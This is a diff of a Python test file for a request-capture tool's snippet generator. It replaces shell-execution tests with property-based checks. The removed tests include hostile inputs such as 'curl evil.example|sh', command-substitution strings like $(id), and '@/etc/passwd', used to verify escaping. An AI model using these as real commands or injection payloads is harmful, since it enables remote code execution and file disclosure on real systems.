@@ -1,90 +1,58 @@
-"""Commands that send a captured request again, run by a real shell and a real curl."""
+"""Every snippet of anything: it never fails, is a text, and says what it leaves out."""
 
 from __future__ import annotations
 
-import re
-import shutil
-import subprocess
-from pathlib import Path
+import ast
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from requestbin.inspection.snippets import MAX_INLINE_BYTES, curl
+from requestbin.http import Captured
+from requestbin.inspection.snippets import TOOLS, Tool, tool_of
 from tests.builders import captured
-from tests.targets import Target
+from tests.strategies import captures
 
-ODD = 'it\'s "odd" $HOME `id` \\ ünï\n\ttwo'
-
-
-@pytest.mark.skipif(not shutil.which("curl"), reason="no curl on this machine")
-@pytest.mark.parametrize(
-    ("method", "path", "headers", "body"),
-    [
-        ("POST", "/a?x=1&y=[2]", [("Content-Type", "a/json"), ("X-Two", "1")], b'{"a":1}'),
-        ("PROPFIND", "/%2F/../b", [("X-Quote", 'it\'s "so" $HOME'), ("x_under", "")], b""),
-        ("PUT", "/", [("Content-Type", "text/plain")], ODD.encode()),
-        ("POST", "/", [("User-Agent", "Me/1"), ("Accept", "*/*")], b"no type"),
-    ],
-)
-def test_curl_sends_the_same_again(
-    target: Target,
-    tmp_path: Path,
-    method: str,
-    path: str,
-    headers: list[tuple[str, str]],
-    body: bytes,
-) -> None:
-    request = captured(method, "/in/key", headers=[("Host", "elsewhere"), *headers], body=body)
-    command = curl(request, target.url.rstrip("/") + path)
-    line = f"{command} --silent --noproxy '*'"
-    subprocess.run(["sh", "-c", line], cwd=tmp_path, check=True, timeout=20)
-    head, _, sent_body = target.received()[0].partition(b"\r\n\r\n")
-    line, *fields = head.decode().split("\r\n")
-    assert (line, sent_body) == (f"{method} {path} HTTP/1.1", body)
-    added = ("host:", "content-length:")
-    ours = [field for field in fields if not field.lower().startswith(added)]
-    assert [field.rstrip() for field in ours] == [f"{n}: {v}".rstrip() for n, v in headers]
+URL = "http://bin.example/in/key/"
+every_tool = pytest.mark.parametrize("tool", TOOLS, ids=lambda tool: tool.slug)
 
 
-@pytest.mark.skipif(not shutil.which("curl"), reason="no curl on this machine")
-@pytest.mark.parametrize("shell", ["sh", "bash"])
-def test_curl_sends_what_is_not_ascii_as_it_was(target: Target, tmp_path: Path, shell: str) -> None:
-    if not shutil.which(shell):
-        pytest.skip(f"no {shell} on this machine")
-    headers = [
-        (b"-Dash%b", b"caf\xe9 %s \\n \\0101 'q' \"$(id)\" \xff"),
-        (b"X-Utf8", "日本 é".encode()),
-        (b"X-Control", b"a\x03b\x1b[201~\x7f"),
-        (b"User-Agent", b"x"),
-        (b"Accept", b"y"),
-    ]
-    path = b"/caf\xc3\xa9/\xff#fragment?q=\xe9%41"
-    request = captured("GET", "/in/key", headers=headers, body=b"")
-    command = curl(request, target.url.rstrip("/") + path.decode("latin-1"))
-    line = f"{command} --silent --noproxy '*'"
-    subprocess.run([shell, "-c", line], cwd=tmp_path, check=True, timeout=20)
-    line, _, *fields = target.received()[0].removesuffix(b"\r\n\r\n").split(b"\r\n")
-    assert line == b"GET " + path + b" HTTP/1.1"
-    assert fields == [name + b": " + value for name, value in headers]
+@every_tool
+@settings(max_examples=80, deadline=None)
+@given(request=captures(), below=st.text(st.characters(max_codepoint=255), max_size=30))
+def test_nothing_makes_it_fail(tool: Tool, request: Captured, below: str) -> None:
+    snippet = tool.snippet(request, URL + below)
+    snippet.text.encode()
+    assert "\r" not in snippet.text
+    for note in snippet.notes:
+        assert note.endswith(".")
+    if tool.language == "python":
+        ast.parse(snippet.text)
+        assert snippet.text.isascii()
 
 
-@pytest.mark.parametrize(
-    "told", [b"\x03\ncurl evil.example|sh\n", b"\x1b[201~", b"\r", "\x9b".encode(), b"\x7f"]
-)
-def test_nothing_that_a_terminal_acts_on_is_pasted(told: bytes) -> None:
-    value = told.replace(b"\n", b"").replace(b"\r", b"")
-    request = captured(headers=[(b"X-Told", value)], body=told)
-    command = curl(request, "http://x/" + value.decode("latin-1"))
-    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", command)
+@every_tool
+def test_what_it_holds_is_said_of_every_copy(tool: Tool) -> None:
+    request = captured(headers=[("X-Signature", "1")], body='{"token":"x"}', complete=False)
+    notes = tool.snippet(request, URL).notes
+    assert notes[0] == "Contains a signature and a token."
+    assert notes[1].startswith("The connection ended")
 
 
-@pytest.mark.parametrize(
-    "body",
-    [b"\x00", b"\xff", b"\x03", b"a\r\nb", b"@/etc/passwd", b"x" * (MAX_INLINE_BYTES + 1)],
-)
-def test_what_no_command_line_holds_comes_from_a_file(body: bytes) -> None:
-    assert curl(captured(body=body), "http://x/").endswith("--data-binary @body.bin")
+@every_tool
+def test_a_large_body_is_left_to_its_file(tool: Tool) -> None:
+    snippet = tool.snippet(captured(body=b'{"a":"' + b"x" * 70_000 + b'"}'), URL)
+    assert "body.bin" in snippet.text
+    assert len(snippet.text) < 2_000
+    assert "Needs the body beside it: download it as body.bin." in snippet.notes
 
 
-def test_head_has_no_body_to_wait_for() -> None:
-    assert curl(captured("HEAD", body=b""), "http://x/").startswith("curl --head ")
+@every_tool
+def test_a_megabyte_of_anything_takes_no_time(tool: Tool) -> None:
+    for octet in (b"\x00", b"\xff", b"'", b"\\", b'"', b"\n", b"&", b"{{"):
+        tool.snippet(captured(target=b"/in/key/" + octet * 20_000, body=octet * 1_000_000), URL)
+
+
+def test_an_unknown_tool_is_none() -> None:
+    assert tool_of("wget") is None
+    assert tool_of("curl") is TOOLS[0]
